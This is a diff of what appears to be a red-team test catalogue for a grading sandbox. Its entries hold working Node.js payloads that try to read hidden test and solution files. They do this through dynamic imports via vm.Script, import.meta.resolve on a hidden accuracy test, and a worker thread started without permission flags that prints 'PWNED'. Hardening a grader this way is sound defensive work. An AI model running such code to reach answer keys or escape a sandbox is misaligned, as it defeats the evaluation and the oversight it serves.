@@ -52,7 +52,7 @@ for (const folder of ['.', '..', '@@HIDDEN@@', '@@SOLUTION@@', '@@CLASS@@', '/et
 const byDefault = { importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER }
 const load = new vm.Script('name => import(name)', byDefault).runInThisContext()
 for (const file of SECRETS) for (const name of [file, 'file://' + file]) await load(name).then(m => { for (const f of Object.values(m)) tell(f) }).catch(() => {})
-safe(() => tell(import.meta.resolve('@@HIDDEN@@/reference.ts')))`,
+safe(() => tell(import.meta.resolve('@@HIDDEN@@/accuracy.test.ts')))`,
     effect: 'secret',
     through: ['D'],
   },
@@ -174,7 +174,7 @@ ${inScore("return new Promise(done => setTimeout(() => fetch('http://127.0.0.1:9
     id: 'worker',
     idea: 'V-11',
     title: 'a worker thread without the permission flags',
-    code: `safe(() => new (builtin('node:worker_threads').Worker)('for (const f of ' + JSON.stringify(SECRETS) + ') try { if (/softplus|submissionTest|SOLUTION/.test(require("fs").readFileSync(f, "utf8"))) console.log("PWNED") } catch {}', { eval: true, execArgv: [] }).on('error', () => {}))\n${inScore(WAIT)}`,
+    code: `safe(() => new (builtin('node:worker_threads').Worker)('for (const f of ' + JSON.stringify(SECRETS) + ') try { if (/submissionTest|SOLUTION/.test(require("fs").readFileSync(f, "utf8"))) console.log("PWNED") } catch {}', { eval: true, execArgv: [] }).on('error', () => {}))\n${inScore(WAIT)}`,
     effect: 'secret',
     through: ['D'],
   },
